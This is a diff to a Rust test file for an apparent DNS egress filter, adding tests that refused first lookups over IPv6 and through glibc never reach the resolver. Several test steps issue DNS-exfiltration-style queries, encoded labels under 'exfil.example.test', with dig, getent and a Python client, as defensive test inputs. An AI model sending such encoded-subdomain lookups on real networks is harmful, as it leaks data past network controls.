@@ -121,17 +121,74 @@ fn first_queries_are_caught_on_unconnected_and_ipv6_connected_sockets() {
         assert_eq!(queries_for(&bench, leak), 0, "{resolver} {flags}: a refused first query reached the resolver");
         r.log().expect(resolver, 53, &[("reason", s("denied-dns-name")), ("host", s(leak))]);
     }
-    // An IPV6_V6ONLY socket (dig) cannot take the placeholder: it keeps the
-    // hold path, and resolving still works.
+    // An IPV6_V6ONLY socket cannot take the placeholder (dig's; dnsq's with
+    // --v6only): its query is caught on egress instead, dropped there and
+    // answered by injection. Neither client sets IPV6_RECVERR, so the drop
+    // is silent to them.
+    let leak = "mfrggzdfmztwq2lk.v6only.exfil.example.test";
+    let dnsq = format!("$PY $DNSQ {} {leak} --type AAAA --v6only --wait 0.2", v6.0);
     let r = Exec::new(&bench).policy(POLICY).steps(&[
+        ("leak", &dnsq),
         ("allowed", &format!("$PY $DNSQ {} api.example.test --type AAAA --v6only --wait 0.2", v6.0)),
         ("connect", &format!("$PY $SOCK tcp {}", v6.3)),
     ]);
     r.outcome.expect_code(0);
-    let st = r.get("allowed");
-    let v: serde_json::Value = serde_json::from_str(st.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {st:?}"));
-    assert_eq!(v["answer"]["rcode"], 0, "V6ONLY: {v}");
-    assert_eq!(v["answer"]["from_ok"], true, "V6ONLY: {v}");
+    for (step, rcode) in [("leak", 3), ("allowed", 0)] {
+        let st = r.get(step);
+        let v: serde_json::Value = serde_json::from_str(st.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {st:?}"));
+        assert_eq!(v["answer"]["rcode"], rcode, "V6ONLY {step}: {v}\n{}", r.outcome.ran.stderr);
+        assert_eq!(v["answer"]["id_ok"], true, "V6ONLY {step}: {v}");
+        assert_eq!(v["answer"]["from_ok"], true, "V6ONLY {step}: {v}");
+    }
     assert_eq!(r.sock("connect")["ok"], true, "V6ONLY: learned");
+    assert_eq!(queries_for(&bench, leak), 0, "V6ONLY: a refused first query reached the resolver");
+    r.log().expect(v6.0, 53, &[("reason", s("denied-dns-name")), ("host", s(leak))]);
+
+    // dig itself, first in a fresh run: IPV6_V6ONLY, bound before connect.
+    let leak = "mfrggzdfmztwq2lk.dig6.exfil.example.test";
+    let r = Exec::new(&bench).policy(POLICY).steps(&[
+        ("leak", &format!("{DIG} @{} {leak} AAAA", v6.0)),
+        ("allowed", &format!("{DIG} +short @{} api.example.test AAAA", v6.0)),
+        ("connect", &format!("$PY $SOCK tcp {}", v6.3)),
+    ]);
+    r.outcome.expect_code(0);
+    let st = r.get("leak");
+    assert!(st.stdout.contains("status: NXDOMAIN"), "{st:?}\n{}", r.outcome.ran.stderr);
+    assert!(!st.stdout.contains("unexpected source"), "{st:?}");
+    r.ok("allowed", "2001:db8:100::10\n");
+    assert_eq!(r.sock("connect")["ok"], true, "dig over IPv6: learned");
+    assert_eq!(queries_for(&bench, leak), 0, "dig over IPv6: a refused first query reached the resolver");
     assert!(queries_for(&bench, "api.example.test") >= 2, "allowed queries do reach it");
+}
+
+/// glibc's `getaddrinfo` with an IPv6 nameserver in resolv.conf (connected
+/// AF_INET6 socket, A and AAAA at once with `sendmmsg`): the namespace's
+/// first lookup, for a refused name, is caught through the IPv4 placeholder
+/// and never reaches the resolver; an allowed name then resolves and
+/// connects.
+#[test]
+fn glibc_with_an_ipv6_nameserver_is_gated_from_the_first_lookup() {
+    if !require_root() {
+        return;
+    }
+    let bench = Bench::start().unwrap();
+    let resolv = bench.resolv_conf_dir("pod").join("resolv.conf");
+    std::fs::write(&resolv, "nameserver 2001:db8:53::53\noptions timeout:1 attempts:2\n").unwrap();
+    let leak = "mfrggzdfmztwq2lk.glibc6.exfil.example.test";
+    let r = Exec::new(&bench).policy(POLICY).steps(&[
+        ("leak", &format!("getent ahosts {leak}")),
+        ("allowed", "getent ahostsv6 api.example.test"),
+        ("connect", "$PY $SOCK tcp 2001:db8:100::10 443"),
+    ]);
+    r.outcome.expect_code(0);
+    let st = r.get("leak");
+    // getent: 2 = not found (NXDOMAIN), not a timeout or error.
+    assert_eq!(st.code, 2, "{st:?}\n{}", r.outcome.ran.stderr);
+    let st = r.get("allowed");
+    assert_eq!(st.code, 0, "{st:?}\n{}", r.outcome.ran.stderr);
+    assert!(st.stdout.contains("2001:db8:100::10"), "{st:?}");
+    assert_eq!(r.sock("connect")["ok"], true, "learned from glibc's lookup");
+    assert_eq!(queries_for(&bench, leak), 0, "a refused first lookup reached the resolver");
+    assert!(queries_for(&bench, "api.example.test") >= 1, "allowed lookups do reach it");
+    r.log().expect("2001:db8:53::53", 53, &[("reason", s("denied-dns-name")), ("host", s(leak))]);
 }
